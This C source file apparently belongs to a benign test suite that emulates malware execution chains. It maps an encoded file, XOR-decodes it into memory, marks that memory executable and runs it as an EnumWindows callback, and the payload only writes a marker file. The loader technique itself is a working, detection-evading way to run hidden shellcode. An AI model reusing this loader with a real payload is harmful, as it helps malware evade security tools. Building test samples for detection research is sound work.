/*
 * loader.c - generality suite: file mapping -> repeating-key XOR -> RW memory -> RX -> run as
 * an enumeration callback. Benign, emulator-only (see ../../lineage-common/common.h).
 *
 * Maps C:\ProgramData\ChainreplayDemo\settings.dat with CreateFileMappingA + MapViewOfFile (no
 * ReadFile), XORs it with the 4-byte key 5a 17 c3 88 into a new PAGE_READWRITE allocation,
 * makes that PAGE_EXECUTE_READ and hands it to EnumWindows as the callback (no CreateThread):
 * the stage writes C:\Users\Public\lineage_callback.txt. First, EnumSystemLocalesA must call
 * back a function of this program once (a check that callbacks happen at all).
 * Exit codes: 0 ok, 1 no marker, 2 no callback, 3 file, 4 mapping, 5 memory, 6 enumeration.
 */
#include "common.h"

static const unsigned char KEY[4] = {0x5a, 0x17, 0xc3, 0x88};
static volatile LONG g_locales;

static BOOL CALLBACK count_locale(LPSTR locale)
{
    if (locale && locale[0])
        g_locales++;
    return TRUE;
}

void Entry(void)
{
    static struct sc_ctx ctx;
    HANDLE f, mapping;
    const unsigned char *view;
    unsigned char *mem;
    DWORD size, i, old;

    if (!marker_present())
        ExitProcess(1);
    if (!EnumSystemLocalesA(count_locale, LCID_INSTALLED) || g_locales == 0)
        ExitProcess(2);
    f = CreateFileA("C:\\ProgramData\\ChainreplayDemo\\settings.dat", GENERIC_READ, FILE_SHARE_READ, 0,
                    OPEN_EXISTING, FILE_ATTRIBUTE_NORMAL, 0);
    if (f == INVALID_HANDLE_VALUE)
        ExitProcess(3);
    size = GetFileSize(f, 0);
    if (size == INVALID_FILE_SIZE || size < 64)
        ExitProcess(3);
    mapping = CreateFileMappingA(f, 0, PAGE_READONLY, 0, 0, 0);
    if (!mapping)
        ExitProcess(4);
    view = (const unsigned char *)MapViewOfFile(mapping, FILE_MAP_READ, 0, 0, 0);
    if (!view)
        ExitProcess(4);
    mem = (unsigned char *)VirtualAlloc(0, size, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!mem)
        ExitProcess(5);
    for (i = 0; i < size; i++)
        mem[i] = view[i] ^ KEY[i & 3];
    UnmapViewOfFile(view);
    CloseHandle(mapping);
    CloseHandle(f);
    if (!VirtualProtect(mem, size, PAGE_EXECUTE_READ, &old))
        ExitProcess(5);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_callback.txt", "ran as an EnumWindows callback\n");
    if (EnumWindows((WNDENUMPROC)(void *)mem, (LPARAM)&ctx))
        ExitProcess(6);  /* the payload returns FALSE, so EnumWindows must too */
    ExitProcess(0);
}
